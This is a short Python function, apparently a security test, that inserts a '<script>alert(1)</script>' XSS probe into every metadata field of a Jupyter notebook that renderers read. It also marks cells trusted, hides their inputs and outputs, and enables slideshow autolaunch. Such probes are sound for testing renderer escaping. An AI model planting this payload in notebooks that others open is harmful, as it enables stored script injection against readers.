# metadata: tags, names, slides, titles and authors that are read by whoever makes a page of a notebook
# place: notebook
def change(notebook):
    """Dresses up."""
    script = "<script>alert(1)</script>"
    for cell in notebook["cells"]:
        cell["metadata"].update(tags=["remove_cell", "hide-input", script], name=script, trusted=True, collapsed=True)
        cell["metadata"].update(slideshow={"slide_type": "skip"}, format="text/html", raw_mimetype="text/html")
        cell["metadata"].update(jupyter={"source_hidden": True, "outputs_hidden": True}, deletable=True, editable=True)
    notebook["metadata"].update(title=script, authors=[{"name": script}], hide_input=True, toc={"base": script})
    notebook["metadata"]["rise"] = {"autolaunch": True, "header": script}
